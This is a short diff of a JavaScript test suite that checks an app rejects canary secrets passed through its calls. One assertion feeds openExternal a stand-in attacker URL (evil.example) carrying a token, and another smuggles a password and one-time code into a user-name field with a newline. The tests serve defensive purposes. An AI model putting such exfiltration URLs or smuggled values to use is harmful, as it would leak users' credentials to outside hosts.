@@ -492,7 +492,7 @@ describe('canary secrets through every flow', () => {
       ok: false,
     });
     expect(await call('applyFix', `${PASSWORD} ${OTP}`)).toMatchObject({ ok: false });
-    expect(await call('updateSettings', { notifyBeforeMinutes: PASSWORD })).toMatchObject({ ok: false });
+    expect(await call('updateSettings', { warnBeforeMinutes: [PASSWORD] })).toMatchObject({ ok: false });
     expect(await call('updateSettings', { fedoraUser: `${PASSWORD}\n${OTP}` })).toMatchObject({ ok: false });
     expect(await call('openExternal', `https://evil.example/?t=${TOKEN}`)).toMatchObject({ ok: false });
     await call('getStatus');
